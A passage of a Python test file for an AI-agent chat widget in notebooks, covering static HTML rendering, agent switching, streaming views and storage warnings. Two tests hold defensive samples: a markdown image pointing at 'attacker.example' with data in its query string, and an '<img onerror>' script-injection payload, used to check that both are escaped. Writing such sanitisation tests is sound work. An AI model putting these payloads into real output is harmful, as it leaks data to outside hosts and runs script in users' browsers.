                        lambda data, display_id: updates.append(data))
    await session.run("Hello")
    # The turn's end draws the whole chat into that form (what a committed notebook keeps).
    assert "Hello" in updates[-1]["text/html"] and "Hi." in updates[-1]["text/html"]
    assert "Run this cell" not in updates[-1]["text/html"]


async def test_the_static_form_draws_model_markdown_but_nothing_that_loads_or_runs() -> None:
    # A static viewer renders this HTML unsanitized: the answer's markdown is drawn, but an
    # image in it must not load there, nor its raw HTML become tags.
    session, _ = make_session([answer(
        "**Done.**\n\n![chart](http://attacker.example/?d=k) <img src=x onerror=alert(1)>")])
    chat = ChatView(session)
    await session.run("Go <b>now</b>")
    page = chat._static_form.bundle()["text/html"]
    assert "<strong>Done.</strong>" in page
    assert "<img" not in page and "attacker.example" not in page and "[chart]" in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "Go &lt;b&gt;now&lt;/b&gt;" in page  # the user's words as typed


@tool(core=True)
def profile() -> str:
    """A profile of the data, as a markdown table."""
    return "| column | missing |\n|---|---|\n| rating | 2 |\n\n<img src=x onerror=alert(1)>"


@tool(core=True)
def listing() -> str:
    """A long result."""
    return "| n |\n|---|\n" + "".join(f"| {n} |\n" for n in range(600))


async def test_the_static_form_draws_a_short_markdown_result_as_the_card_does() -> None:
    # A profile's table reads as a table in a saved notebook, not as pipes; a long result
    # (or a preview) shows its start as text; JSON stays as sent; nothing runs.
    session, _ = make_session([calls(("p", "profile", {}), ("l", "listing", {}),
                                     ("a", "add", {"a": 1, "b": 2})), answer("Two ratings lack.")])
    session.catalog.register(profile)
    session.catalog.register(listing)
    chat = ChatView(session)
    await session.run("What stands out?")
    page = chat._static_form.bundle()["text/html"]
    assert "<table>" in page and "<td>rating</td>" in page
    assert "| column | missing |" not in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page and "<img" not in page
    assert page.count("<table>") == 1  # the 600-row listing: its start, as text
    assert "| n |\n|---|\n| 0 |" in page
    chat.close()


def test_requests_without_a_session_fail_cleanly() -> None:
    chat = ChatView()
    with pytest.raises(RequestError, match="no session"):
        chat._sync({})


def test_the_agent_selector_starts_a_new_session_with_the_chosen_agent() -> None:
    session, _ = make_session([])
    other = Agent("reviewer", model="scripted")
    chat = ChatView(session, agents=[other])
    assert chat.agents == [{"name": "helper", "model": session.provider.model_id},
                           {"name": "reviewer", "model": "scripted"}]
    assert chat._switch_agent({"name": "helper"}) == {"session_id": session.id}
    reply = chat._switch_agent({"name": "reviewer"})
    assert chat.session is not None and chat.session.agent is other
    assert reply == {"session_id": chat.session.id} and chat.agent["name"] == "reviewer"
    assert chat.session.catalog is session.catalog
    with pytest.raises(RequestError, match="no agent named"):
        chat._switch_agent({"name": "nobody"})


async def test_a_view_bound_mid_answer_starts_from_what_already_streamed() -> None:
    gate = asyncio.Event()
    session, _ = make_session([[ThinkingDelta("Let me "), ThinkingDelta("see."), ThinkingEnd(),
                                TextDelta("Hello "), gate.wait, TextDelta("world"),
                                UsageUpdate(Usage()), StreamDone("end_turn")]])
    seen = asyncio.Event()
    session.subscribe(lambda event: seen.set() if event.type == "token" else None)
    task = session.start("hi")
    await asyncio.wait_for(seen.wait(), 5)
    assert session.streaming_message is not None
    turn = session.state.turn
    assert session.streaming_message.text == "Hello " and turn and not turn.thinking_open
    chat = ChatView(session)  # a second view, opened mid-answer
    live = chat._sync({})["live"]
    assert live is not None
    assert (live["thinking"], live["text"], live["thinking_open"]) == ("Let me see.", "Hello ",
                                                                       False)
    gate.set()
    await task
    assert session.streaming_message is None
    assert session.messages[-1].text == "Hello world"
    assert chat._sync({})["messages"][-1]["text"] == "Hello world"


async def test_the_view_says_while_the_store_is_behind_in_its_language(tmp_path: Any) -> None:
    import sqlite3

    db = tmp_path / "sessions.sqlite3"
    session = AgentSession(Agent("a", model=FakeProvider([answer("kept")])),
                           store=SessionStore(db))
    assert session.flush(10)
    chat = ChatView(session, lang="zh-CN")
    assert chat.store_warning == ""
    other = sqlite3.connect(db, isolation_level=None)
    other.execute("BEGIN IMMEDIATE")  # another program holds the store
    try:
        await session.run("go")
        await wait_until(lambda: chat.store_warning != "")
        assert chat.store_warning == "尚未保存：会话存储被其他程序占用——正在重试。"
        # A view opened now (another output of the session) says so from the start.
        assert ChatView(session).store_warning.startswith("Not saved yet: another program")
    finally:
        other.execute("COMMIT")
        other.close()
    assert session.flush(10)
    await wait_until(lambda: chat.store_warning == "")


def test_each_chat_model_has_its_own_key_in_its_first_state() -> None:
    # The page's loader files the batches a model receives under `_key` before any view is
    # drawn (js/src/received-batches.ts): two chats, even of one session, must not share it.
    session = AgentSession(Agent("a", model=FakeProvider([])))
    first, second = ChatView(session), ChatView(session)
    keys = [view.get_state()["_key"] for view in (first, second)]
    assert all(len(key) == 32 for key in keys) and keys[0] != keys[1]
    assert first.get_state()["_key"] == keys[0]  # stable for the model's life


async def test_unusable_usage_from_the_server_is_a_notice_not_a_store_warning() -> None:
    session, _ = make_session([[TextDelta("hi"), UsageUpdate(None, "completion_tokens=-5"),
                                StreamDone("end_turn")]])
    chat = ChatView(session, lang="zh-CN")
    await session.run("go")
    assert (chat.notice_tone, chat.store_warning) == ("warning", "")
    assert chat.notice == ("模型服务器报告的 token 用量不是有效计数（completion_tokens=-5）："
                           "该次调用的用量和费用未知。")
    chat.close()
